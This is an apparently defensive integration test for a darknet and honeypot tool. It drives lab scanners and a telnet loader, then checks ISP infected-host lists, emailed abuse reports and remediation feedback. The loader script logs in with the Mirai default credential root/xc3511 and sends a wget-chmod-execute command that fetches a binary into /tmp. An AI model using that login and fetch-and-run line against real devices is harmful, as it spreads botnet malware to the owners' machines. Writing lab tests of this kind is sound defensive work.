#!/usr/bin/env python3
"""Issue 11 end to end: from real attack traffic to the infected-host lists of two ISPs, a mailed
report, ISP feedback and the remediation figures.

The scanner lab's namespaces (scanner_lab.py): an attacker namespace with one source per scanner and
a darknet namespace in which `kansoku run` captures 203.0.113.0/24 on veth-dark and runs the telnet
honeypot on 198.51.100.1:2323. From their own sources: nmap -sS (198.51.100.10), a Mirai-style scapy
scanner (198.51.100.13), and a telnet loader from 198.51.100.20 that logs in and fetches a file with
wget (served inside the darknet namespace, on its loopback). Two ISPs own disjoint prefixes:
isp-a 198.51.100.0/28 (nmap and Mirai sources), isp-b 198.51.100.16/28 (the loader).

After `kansoku run` stops (which closes every scan record, so correlation sees them), `kansoku serve`
over the same database answers the ISP API on loopback. Checks:
  - the Mirai source (family mirai) and the loader source are infected hosts, each listed for exactly
    its owning ISP (API and CSV report); the nmap source is no infected host;
  - ISP B's key never sees ISP A's data: per endpoint 404/403 or nothing of A in the answer; missing
    and wrong keys get 401;
  - `kansoku report isp isp-a --send` delivers one mail to a real SMTP server (Debian's
    python3-aiosmtpd) started here, with the CSV attached; the CSV parses and lists the Mirai host only;
  - feedback (notified, then remediated) moves the host's state, and `kansoku report remediation`
    shows a time to clean for isp-a.

Needs root, `ip netns`, nmap, python3-scapy, python3-aiosmtpd; otherwise exits 77 (skipped).
Usage: response_loop.py PATH/TO/kansoku [--keep DIR]
"""

import argparse
import csv
import email
import email.policy
import io
import json
import os
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

sys.dont_write_bytecode = True  # keep __pycache__ out of the source tree
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import honeypot_lab as hl  # noqa: E402
import integ_common as ic  # noqa: E402
import scanner_lab as sl  # noqa: E402

NMAP_SOURCE = sl.SOURCES["nmap"]
MIRAI_SOURCE = sl.SOURCES["mirai"]
LOADER_SOURCE = "198.51.100.20"
UNKNOWN_HOST = "198.51.100.30"  # in isp-b's space, never an infected host
HONEYPOT = sl.GATEWAY  # 198.51.100.1, the darknet namespace's side of the attacker link
TELNET_PORT = 2323
ISP_A = ("isp-a", "198.51.100.0/28", "abuse@isp-a.example")
ISP_B = ("isp-b", "198.51.100.16/28", "abuse@isp-b.example")
SAMPLE = b"\x7fELF\x01\x01\x01\x00" + b"kansoku response-loop test payload, never run\n" * 20

LOADER_SCRIPT = r"""
import socket, sys, time
src, host, port, url = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
s = socket.socket()
s.bind((src, 0))
s.settimeout(20)
s.connect((host, port))
def read_until(needle):
    data = b""
    while needle not in data:
        chunk = s.recv(4096)
        if not chunk:
            raise SystemExit("closed before %r: %r" % (needle, data[-200:]))
        # Telnet negotiation (IAC ...) is ignored, as bots do.
        data += chunk
    return data
read_until(b"login:")
s.sendall(b"root\r\n")
read_until(b"assword:")
s.sendall(b"xc3511\r\n")
read_until(b"#")
for line in ("enable", "system", "shell", "sh",
             "cd /tmp; wget %s -O .x; chmod 777 .x; ./.x telnet.loader" % url):
    s.sendall(line.encode() + b"\r\n")
    read_until(b"#")
s.sendall(b"exit\r\n")
time.sleep(0.5)
s.close()
print("loader done")
"""


def skip_unless_ready() -> None:
    sl.skip_unless_ready()
    probe = ic.run([sl.SCAPY_PYTHON, "-c", "import aiosmtpd"], timeout=60)
    if probe.returncode != 0:
        ic.skip("python3-aiosmtpd is not installed (scripts/setup installs it)")


class Api:
    """Calls the ISP API of `kansoku serve` on loopback."""

    def __init__(self, base: str) -> None:
        self.base = base.rstrip("/")

    def call(self, path: str, key: str = None, method: str = "GET", body=None):
        """(status, parsed JSON or text)."""
        data = None if body is None else (body if isinstance(body, bytes) else json.dumps(body).encode())
        request = urllib.request.Request(self.base + path, data=data, method=method)
        if key:
            request.add_header("Authorization", f"Bearer {key}")
        if data is not None:
            request.add_header("Content-Type", "application/json")
        try:
            with urllib.request.urlopen(request, timeout=20) as response:
                status, raw, ctype = response.status, response.read(), response.headers.get("Content-Type", "")
        except urllib.error.HTTPError as e:
            status, raw, ctype = e.code, e.read(), e.headers.get("Content-Type", "")
        text = raw.decode(errors="replace")
        if "json" in ctype:
            try:
                return status, json.loads(text)
            except ValueError:
                pass
        return status, text

    def hosts(self, key: str) -> list:
        status, body = self.call("/api/v1/isp/hosts?limit=1000", key)
        if status != 200 or not isinstance(body, dict):
            return None
        return sorted(h["ip"] for h in body.get("hosts", []))


def start_smtp(work: Path, port: int) -> subprocess.Popen:
    """aiosmtpd's command-line server, writing each message to a mailbox file (its Debug handler)."""
    script = r"""
import asyncio, sys
from aiosmtpd.controller import Controller
class Keep:
    async def handle_DATA(self, server, session, envelope):
        with open(sys.argv[2], "ab") as f:
            f.write(b"X-Kansoku-Rcpt: " + ",".join(envelope.rcpt_tos).encode() + b"\n")
            f.write(envelope.original_content or envelope.content)
            f.write(b"\n.\n")
        return "250 OK"
c = Controller(Keep(), hostname="127.0.0.1", port=int(sys.argv[1]))
c.start()
print("smtp ready", flush=True)
import time
while True:
    time.sleep(3600)
"""
    log = open(work / "smtp.log", "w")
    process = subprocess.Popen([sl.SCAPY_PYTHON, "-c", script, str(port), str(work / "mailbox")], stdout=log,
                               stderr=subprocess.STDOUT)
    if not ic.wait_for_text(work / "smtp.log", "smtp ready", 30, process):
        raise RuntimeError("aiosmtpd did not start: " + (work / "smtp.log").read_text())
    return process


def read_mails(mailbox: Path) -> list:
    if not mailbox.exists():
        return []
    mails = []
    for chunk in mailbox.read_bytes().split(b"\n.\n"):
        if chunk.strip():
            rcpt, _, raw = chunk.partition(b"\n")
            mails.append((rcpt.decode().split(": ", 1)[1], email.message_from_bytes(raw, policy=email.policy.default)))
    return mails


def csv_attachment(message) -> str:
    for part in message.iter_attachments():
        if part.get_content_type() in ("text/csv", "application/csv") or (part.get_filename() or "").endswith(".csv"):
            content = part.get_content()
            return content.decode() if isinstance(content, bytes) else content
    return None


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("kansoku")
    parser.add_argument("--keep", type=Path)
    args = parser.parse_args()
    kansoku = os.path.abspath(args.kansoku)
    skip_unless_ready()
    ic.exit_on_signals()
    checks = ic.Checks()
    work = ic.make_temp_dir("ks-response-")
    lab = sl.ScannerLab(work)
    processes = []
    try:
        lab.setup()
        lab.check_isolation()
        run_lab(kansoku, work, lab, processes, checks)
    finally:
        for process in processes:
            ic.stop_process(process, timeout=5)
        lab.teardown()
        if args.keep:
            ic.keep_files(work, args.keep, "config, logs, database, mails")
        ic.remove_temp_dir(work)
    return checks.exit_code()


def add_isp(kansoku: str, config: Path, isp) -> str:
    name, prefix, abuse = isp
    result = ic.run([kansoku, "isp", "add", name, "--prefix", prefix, "--abuse", abuse, "--config", config],
                    timeout=60)
    if result.returncode != 0:
        raise RuntimeError(f"kansoku isp add {name}: {result.stderr.strip()}")
    for token in result.stdout.split():
        if token.startswith("ksk_"):
            return token
    raise RuntimeError(f"kansoku isp add {name} printed no key: {result.stdout}")


def run_lab(kansoku: str, work: Path, lab, processes: list, checks: ic.Checks) -> None:
    smtp_port = ic.free_port()
    web_port = ic.free_port()
    admin_key = "response-loop-admin-key-0123456789"
    overrides = {
        "darknet": {"interface": "veth-dark", "prefixes": [sl.DARKNET]},
        "darknet.scan": {"idle_timeout": "10m"},
        "honeypot.telnet": {"enabled": True, "address": HONEYPOT, "port": TELNET_PORT, "failure_delay": "200ms"},
        "web": {"address": "127.0.0.1", "port": web_port, "admin_key": admin_key},
        "notify": {"smtp_url": f"smtp://127.0.0.1:{smtp_port}", "from": "kansoku@cert.example"},
    }
    hp = hl.HoneypotLab(kansoku, work, overrides, command="run", prefix=lab.exec_args(lab.dark))
    config = hp.config
    keys = {ISP_A[0]: add_isp(kansoku, config, ISP_A), ISP_B[0]: add_isp(kansoku, config, ISP_B)}
    checks.check(keys["isp-a"] != keys["isp-b"], "each ISP gets its own key")

    # The file the loader fetches, served on the darknet namespace's loopback (the downloader may
    # fetch from loopback in this config, as in the embedded default).
    (work / "www").mkdir()
    (work / "www" / "x.arm7").write_bytes(SAMPLE)
    www_port = 8000 + os.getpid() % 1000
    processes.append(lab.start(lab.dark, [sys.executable, "-m", "http.server", "--bind", "127.0.0.1",
                                          str(www_port), "--directory", str(work / "www")]))

    lab.ip("-n", lab.atk, "addr", "add", f"{LOADER_SOURCE}/24", "dev", "veth-atk")
    lab.wait_for_arp()
    hp.start(timeout=60)
    try:
        nmap = lab.run_in(lab.atk, ["nmap", "-sS", "-n", "-Pn", "-p", "1-100", "--max-rate", "2000", "-S",
                                    NMAP_SOURCE, "-e", "veth-atk", sl.NMAP_TARGET], timeout=120)
        checks.check(nmap.returncode == 0, "nmap -sS ran", nmap.stderr)
        mirai = lab.run_in(lab.atk, [sl.SCAPY_PYTHON, "-c", sl.MIRAI_SCRIPT, MIRAI_SOURCE, lab.dark_mac,
                                     "veth-atk", 200, 11], timeout=120)
        checks.check(mirai.returncode == 0, "Mirai-style scanner ran", mirai.stderr)
        loader = lab.run_in(lab.atk, [sl.SCAPY_PYTHON, "-c", LOADER_SCRIPT, LOADER_SOURCE, HONEYPOT, TELNET_PORT,
                                      f"http://127.0.0.1:{www_port}/x.arm7"], timeout=120)
        checks.check(loader.returncode == 0, "telnet loader session ran", loader.stdout + loader.stderr)
        hp.wait_for_events(lambda evs: any(e["type"] == "honeypot.download" for e in evs), timeout=20)
    finally:
        status = hp.stop(timeout=30)
    checks.check(status == 0, "kansoku run stops with exit 0", hp.stderr_text[-2000:])

    events = hp.events()
    infected = {e["ip"]: e for e in ic.of_type(events, "intel.infected_host")}
    checks.check(MIRAI_SOURCE in infected and infected[MIRAI_SOURCE]["family"] == "mirai",
                 "correlation in kansoku run: the Mirai-style source is an infected host, family mirai",
                 json.dumps(infected, indent=1)[:2000])
    checks.check(LOADER_SOURCE in infected, "correlation in kansoku run: the loader source is an infected host")
    checks.check(NMAP_SOURCE not in infected, "the nmap source is no infected host")

    # The center alone over the same database: the ISP API on loopback.
    serve_err = work / "serve.err"
    with open(serve_err, "w") as err:
        serve = subprocess.Popen([kansoku, "serve", "--config", str(config)], stdout=subprocess.DEVNULL, stderr=err,
                                 cwd=work)
    processes.append(serve)
    if not ic.wait_for_text(serve_err, "serve: running", 30, serve):
        checks.check(False, "kansoku serve starts", serve_err.read_text())
        return
    api = Api(f"http://127.0.0.1:{web_port}")
    check_tenancy(api, keys, admin_key, checks)
    check_report_mail(kansoku, config, work, smtp_port, processes, checks)
    check_feedback_loop(kansoku, config, api, keys, checks)


def check_tenancy(api: Api, keys: dict, admin_key: str, checks: ic.Checks) -> None:
    a, b = keys["isp-a"], keys["isp-b"]
    checks.check(api.hosts(a) == [MIRAI_SOURCE], "isp-a's key lists exactly the Mirai source",
                 str(api.call("/api/v1/isp/hosts", a)))
    checks.check(api.hosts(b) == [LOADER_SOURCE], "isp-b's key lists exactly the loader source",
                 str(api.call("/api/v1/isp/hosts", b)))
    admin = api.hosts(admin_key) or []
    checks.check(MIRAI_SOURCE in admin and LOADER_SOURCE in admin and NMAP_SOURCE not in admin,
                 "the admin key sees both ISPs' hosts and no nmap source", str(admin))
    status, _ = api.call("/api/v1/isp/hosts")
    checks.check(status == 401, "no key: 401", str(status))
    status, _ = api.call("/api/v1/isp/hosts", "ksk_not-a-key")
    checks.check(status == 401, "a wrong key: 401", str(status))
    # ISP B asks for ISP A's host: the same answer as for an address that is nobody's infected host.
    for method, path, body in (("GET", "/api/v1/isp/hosts/{}", None),
                               ("POST", "/api/v1/isp/hosts/{}/feedback", {"state": "notified"})):
        status, answer = api.call(path.format(MIRAI_SOURCE), b, method, body)
        status_none, answer_none = api.call(path.format(UNKNOWN_HOST), b, method, body)
        same = json.dumps(answer).replace(MIRAI_SOURCE, "IP") == json.dumps(answer_none).replace(UNKNOWN_HOST, "IP")
        checks.check(status in (403, 404) and status == status_none and same,
                     f"isp-b: {method} {path.format(MIRAI_SOURCE)} -> {status}, as for a host that does not exist",
                     f"{answer}\n{answer_none}")
    # ... and by every list: no trace of it.
    for path in ("/api/v1/isp/hosts", "/api/v1/isp/reports", "/api/v1/isp/remediation", "/api/v1/blocklist.csv",
                 "/api/v1/blocklist.txt", "/api/v1/blocklist.rpz"):
        status, answer = api.call(path, b)
        text = answer if isinstance(answer, str) else json.dumps(answer)
        checks.check(status in (200, 403, 404) and MIRAI_SOURCE not in text and "13.100.51.198" not in text,
                     f"isp-b: GET {path} -> {status}, nothing of isp-a", text[:500])
    status, answer = api.call(f"/api/v1/isp/hosts/{MIRAI_SOURCE}", a)
    checks.check(status == 200 and isinstance(answer, dict) and MIRAI_SOURCE in json.dumps(answer),
                 "isp-a reads its own host", str(answer)[:500])


def check_report_mail(kansoku: str, config: Path, work: Path, smtp_port: int, processes: list,
                      checks: ic.Checks) -> None:
    processes.append(start_smtp(work, smtp_port))
    out = work / "reports"
    result = ic.run([kansoku, "report", "isp", "isp-a", "--since", "24h", "--out", out, "--send", "--config", config],
                    timeout=120)
    checks.check(result.returncode == 0, "kansoku report isp isp-a --send exits 0", result.stdout + result.stderr)
    mails = []
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and not mails:
        mails = read_mails(work / "mailbox")
        time.sleep(0.2)
    checks.check(len(mails) == 1, "one mail arrived at the SMTP server", str(len(mails)))
    if not mails:
        return
    rcpt, message = mails[0]
    checks.check(rcpt == ISP_A[2], f"addressed to isp-a's abuse address ({rcpt})")
    attached = csv_attachment(message)
    if not checks.check(attached is not None, "the mail has the CSV attached", str(message)[:1000]):
        return
    rows = list(csv.DictReader(io.StringIO(attached)))
    ips = sorted(r.get("ip", "") for r in rows)
    checks.check(ips == [MIRAI_SOURCE], "the attached CSV parses and lists exactly the Mirai host", attached[:1000])
    written = sorted(p.name for p in out.glob("*")) if out.exists() else []
    checks.check(any(n.endswith(".csv") for n in written), f"--out keeps the report file ({written})")


def check_feedback_loop(kansoku: str, config: Path, api: Api, keys: dict, checks: ic.Checks) -> None:
    a = keys["isp-a"]
    status, answer = api.call(f"/api/v1/isp/hosts/{LOADER_SOURCE}/feedback", a, "POST", {"state": "notified"})
    checks.check(status in (403, 404), "isp-a cannot give feedback on isp-b's host", f"{status} {answer}")
    status, answer = api.call(f"/api/v1/isp/hosts/{MIRAI_SOURCE}/feedback", a, "POST", b"{not json")
    checks.check(status == 400, "malformed feedback JSON: 400", f"{status} {answer}")
    for state in ("notified", "remediated"):
        status, answer = api.call(f"/api/v1/isp/hosts/{MIRAI_SOURCE}/feedback", a, "POST",
                                  {"state": state, "note": f"response loop test: {state}"})
        checks.check(status in (200, 201, 204), f"feedback {state}: accepted", f"{status} {answer}")
        time.sleep(1.1)  # the time to clean is measured in seconds
    status, host = api.call(f"/api/v1/isp/hosts/{MIRAI_SOURCE}", a)
    checks.check(isinstance(host, dict) and json.dumps(host).find('"remediated"') >= 0,
                 "the host's state is remediated", str(host)[:500])
    report = ic.run([kansoku, "report", "remediation", "--isp", "isp-a", "--json", "--config", config], timeout=60)
    checks.check(report.returncode == 0, "kansoku report remediation --isp isp-a exits 0", report.stderr)
    checks.check("remediated" in report.stdout and "clean" in report.stdout,
                 "the remediation report shows the remediated host and a time to clean", report.stdout[:1500])


if __name__ == "__main__":
    sys.exit(main())
